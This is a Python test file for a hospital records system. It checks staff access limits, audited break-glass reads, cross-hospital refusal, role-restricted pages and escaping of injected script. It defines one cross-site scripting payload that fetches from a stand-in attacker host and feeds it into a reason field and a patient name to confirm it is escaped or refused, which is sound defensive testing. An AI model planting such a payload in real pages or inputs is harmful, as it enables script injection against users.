"""Staff who read what is none of their business."""

from typing import Any
from uuid import uuid4

import pytest

from accounts.models import Role
from common import clock
from hospitals.actions.decide import decide_policy
from hospitals.policy import forget_policies
from notifications.models import Message, Task
from patients.models import AccessFinding, AccessLine, BreakGlass, Patient
from tests import make
from tests.attacks.attacker import Attacker, Log
from tests.edges.addresses import PAGES
from tests.make import reading
from visits.actions.watch import watch_access

pytestmark = pytest.mark.django_db
NAME = "欧阳静"
SCRIPT = "<script>fetch('//evil.example')</script>"


def at_work(staff: Any) -> Attacker:
    """A staff member's browser."""
    return Attacker(cookie=make.signed_in_client(staff).cookies["sessionid"].value)


def test_an_office_that_reads_person_after_person_is_stopped_and_reported(log: Log) -> None:
    first = make.patient(name="王建国")
    people = [first, *(make.patient(hospital=first.hospital, name="王建国") for _ in range(3))]
    decide_policy(hospital=first.hospital, effective_on=clock.today(), people_a_day_in_offices=2)
    forget_policies()
    clerk = reading.reader(first, role=Role.BOOKING_OFFICE)
    greedy = at_work(clerk)
    window = f"/staff/{first.hospital.code}/cards/window/"

    told = [greedy.fill(window, document_number=one.document_number) for one in people]
    watch_access()

    assert [one.status_code for one in told] == [200, 200, 403, 403]
    assert AccessLine.objects.filter(staff=clerk).count() == 2
    assert log.refused(status=403, account_id=clerk.account_id) == 2
    assert AccessFinding.objects.get().rule == AccessFinding.Rule.QUOTA_NEAR
    assert Task.objects.get(role=Role.AUDITOR).about_id == AccessFinding.objects.get().pk


def test_a_nosy_colleague_reads_nothing_in_silence() -> None:
    account = make.account()
    patient = make.patient(name=NAME, account=account)
    reading.told_template(patient)
    doctor = reading.reader(patient, name="郑重")
    nosy = at_work(doctor)
    here = f"/staff/{patient.hospital.code}/patients/{patient.pk}/"

    before = nosy.open(here)
    nosy.fill(f"{here}reason/", kind="emergency", words="想看看同事的检查结果如何")
    after = nosy.open(here)

    assert (before.status_code, before.headers["Location"]) == (302, f"{here}reason/")
    assert NAME in after.content.decode()
    assert Message.objects.get(patient=patient).template == "record_opened"
    glass = BreakGlass.objects.get()
    assert Task.objects.get(role=Role.AUDITOR).about_id == glass.pk
    owner = at_work(account)
    page = owner.open(f"/m/{patient.hospital.code}/me/access/").content.decode()
    assert "医生" in page
    assert AccessLine.objects.get().reason == "break-glass"


def test_a_doctor_of_another_hospital_finds_no_patient_here(log: Log) -> None:
    patient = make.patient(name=NAME)
    doctor = make.staff()
    stranger = at_work(doctor)
    here, own = (f"/staff/{one}" for one in (patient.hospital.code, doctor.hospital.code))

    told = [
        stranger.open(f"{here}/patients/{patient.pk}/"),
        stranger.open(f"{own}/patients/{patient.pk}/"),
        stranger.fill(f"{own}/patients/{patient.pk}/reason/", kind="emergency", words="x" * 20),
    ]

    assert [one.status_code for one in told] == [404] * 3
    assert not any(NAME in one.content.decode() for one in told)
    assert log.refused(status=404, account_id=doctor.account_id) == 3
    assert not BreakGlass.objects.exists()


def test_a_nurse_opens_no_page_of_administrators_auditors_and_cashiers(log: Log) -> None:
    nurse = make.staff(role=Role.NURSE)
    curious = at_work(nurse)
    code = nurse.hospital.code
    wanted = ["devices/", "badges/", "audit/", "merge-reviews/", "deaths/", "marks/"]
    there = [f"staff/<slug:code>/{one}" for one in wanted]

    told = [curious.open(f"/staff/{code}/{one}").status_code for one in wanted]

    assert set(there) <= {one.route for one in PAGES}
    assert told == [403] * len(wanted)
    assert log.refused(status=403, account_id=nurse.account_id, hospital=code) == len(wanted)


def test_a_script_in_a_reason_is_shown_to_the_auditor_as_text() -> None:
    patient = make.patient()
    doctor = reading.reader(patient, name=SCRIPT)
    attacker = at_work(doctor)
    auditor = at_work(reading.reader(patient, role=Role.AUDITOR))
    here = f"/staff/{patient.hospital.code}/patients/{patient.pk}/"

    attacker.fill(f"{here}reason/", kind="emergency", words=f"抢救需要核对过敏史{SCRIPT}")
    attacker.open(here)
    audit = f"/staff/{patient.hospital.code}/audit/"
    pages = [auditor.open(audit), auditor.fill(f"{audit}lines/", staff_number=doctor.number)]

    assert BreakGlass.objects.get().words.endswith(SCRIPT)
    assert pages[0].content.decode().count("&lt;script&gt;") == 2
    assert [SCRIPT in one.content.decode() for one in pages] == [False, False]
    assert "script-src 'self'" in pages[0].headers["Content-Security-Policy"]


def test_a_name_that_is_a_script_is_refused_at_registration() -> None:
    hospital, account = make.hospital(), make.account()
    said = {
        "name": SCRIPT,
        "document_type": "resident_id",
        "document_number": make.resident_id(),
        "phone": "13800138000",
        "relation": "self",
        "idempotency_key": str(uuid4()),
    }

    told = at_work(account).fill(f"/m/{hospital.code}/me/", **said)

    assert SCRIPT not in told.content.decode()
    assert not Patient.objects.exists()
